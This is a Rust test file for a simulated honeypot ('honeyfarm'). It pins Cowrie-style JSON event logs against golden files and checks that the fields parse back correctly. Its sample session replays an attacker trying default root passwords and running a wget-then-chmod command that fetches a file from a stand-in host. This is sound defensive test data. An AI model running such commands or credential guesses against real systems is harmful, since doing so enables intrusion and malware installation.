//! Golden-pinned JSON writers: the bytes of `claims.json` and of the
//! Cowrie-style event lines are part of the observable contract, so both
//! are pinned under `tests/goldens/`.
//!
//! Refresh after an intended format change with:
//!
//! ```text
//! UPDATE_GOLDENS=1 cargo test --test json_goldens
//! ```

use std::path::PathBuf;

use honeyfarm::farm::EventLog;
use honeyfarm::geo::Ip4;
use honeyfarm::obs::json::Json;
use honeyfarm::prelude::*;
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::SyntheticFetcher;
use honeyfarm::simclock::SimInstant;
use honeyfarm::testkit::assert_golden;

fn golden(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(format!("tests/goldens/{name}"))
}

/// One session that logs every event kind: connect (with an SSH version),
/// a failed and a successful login, a command, a download and a file.
fn sample_record() -> SessionRecord {
    let mut d = SessionDriver::accept(
        HoneypotConfig::default(),
        7,
        Protocol::Ssh,
        Ip4::new(198, 51, 100, 3),
        40000,
        SimInstant::from_day_and_secs(2, 100),
        Box::new(SyntheticFetcher),
    );
    d.client_banner("SSH-2.0-Go");
    d.offer_credentials(Credentials::new("root", "root"), 1);
    d.offer_credentials(Credentials::new("root", "1234"), 1);
    d.run_command("cd /tmp && wget http://h/x && chmod 777 x", 2);
    d.client_close();
    d.into_record()
}

#[test]
fn claims_json_is_golden_pinned() {
    let out = Simulation::run(SimConfig::test(10));
    let claims = Claims::compute(&Aggregates::compute(&out.dataset));
    assert_golden(&golden("claims.json.golden"), &claims.to_json());
}

#[test]
fn cowrie_event_lines_are_golden_pinned() {
    let mut text = EventLog::render(&sample_record()).join("\n");
    text.push('\n');
    assert_golden(&golden("cowrie_events.jsonl.golden"), &text);
}

/// Every line parses back with the shared reader and carries the fields
/// its event kind needs.
#[test]
fn cowrie_event_lines_parse_back() {
    let events: Vec<Json> = EventLog::render(&sample_record())
        .iter()
        .map(|l| Json::parse(l).expect("event line is JSON"))
        .collect();
    let field = |e: &Json, k: &str| e.get(k).map(|v| v.as_str(k).expect("string").to_string());
    let ids: Vec<String> = events.iter().filter_map(|e| field(e, "eventid")).collect();
    assert_eq!(ids.len(), events.len(), "every event has an id");
    assert_eq!(
        ids.first().map(String::as_str),
        Some("cowrie.session.connect")
    );
    assert_eq!(
        ids.last().map(String::as_str),
        Some("cowrie.session.closed")
    );
    for id in ["cowrie.login.failed", "cowrie.command.input"] {
        assert!(ids.iter().any(|i| i == id), "no {id}");
    }
    let by_id = |id: &str| &events[ids.iter().position(|i| i == id).expect(id)];
    let success = by_id("cowrie.login.success");
    assert_eq!(field(success, "username").as_deref(), Some("root"));
    assert_eq!(field(success, "password").as_deref(), Some("1234"));
    let download = by_id("cowrie.session.file_download");
    assert_eq!(field(download, "shasum").map(|h| h.len()), Some(64));
    assert_eq!(field(download, "url").as_deref(), Some("http://h/x"));
}
